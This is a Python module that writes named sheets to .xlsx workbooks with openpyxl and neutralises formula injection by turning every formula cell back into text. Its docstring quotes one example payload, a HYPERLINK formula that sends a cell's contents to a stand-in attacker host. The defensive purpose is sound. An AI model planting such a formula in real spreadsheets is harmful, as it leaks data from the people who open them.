"""Write named sheets of rows as an .xlsx workbook with openpyxl; every workbook the service
makes is saved through ``save_workbook``, so no cell is ever a formula.

openpyxl stores any string starting with ``=`` as a formula. A remedial action typed as
``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` would become a live link that leaks
the sheet, so every formula cell is turned back into the text it came from.
"""

from __future__ import annotations

import io
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import IO

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill

CellValue = str | int | float | Decimal | date | None


@dataclass
class Sheet:
    title: str
    rows: list[list[CellValue]]
    # Rows (0-based) shown bold: headings and table headers.
    bold_rows: set[int] = field(default_factory=set)
    widths: Sequence[float] = ()
    # Fill colour (hex) for a cell: {(row, column): "F47738"}.
    fills: dict[tuple[int, int], str] = field(default_factory=dict)
    freeze_header: bool = False


def write_xlsx(sheets: Sequence[Sheet], out: Path | IO[bytes]) -> None:
    book = Workbook()
    book.remove(book.worksheets[0])
    for spec in sheets:
        sheet = book.create_sheet(spec.title[:31])
        for r, values in enumerate(spec.rows):
            for c, value in enumerate(values):
                cell = sheet.cell(row=r + 1, column=c + 1, value=value)
                cell.alignment = Alignment(wrap_text=True, vertical="top")
                if isinstance(value, date):
                    cell.number_format = "yyyy-mm-dd"
                if r in spec.bold_rows:
                    cell.font = Font(bold=True)
                fill = spec.fills.get((r, c))
                if fill:
                    cell.fill = PatternFill("solid", start_color=fill, end_color=fill)
        for c, width in enumerate(spec.widths):
            sheet.column_dimensions[_letter(c)].width = width
        if spec.freeze_header:
            sheet.freeze_panes = "A2"
    save_workbook(book, out)


def text_only(book: Workbook) -> Workbook:
    """Every formula cell of ``book`` becomes the text it was written from."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return book


def save_workbook(book: Workbook, out: Path | IO[bytes]) -> None:
    text_only(book).save(out)


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    save_workbook(book, buffer)
    return buffer.getvalue()


def _letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)
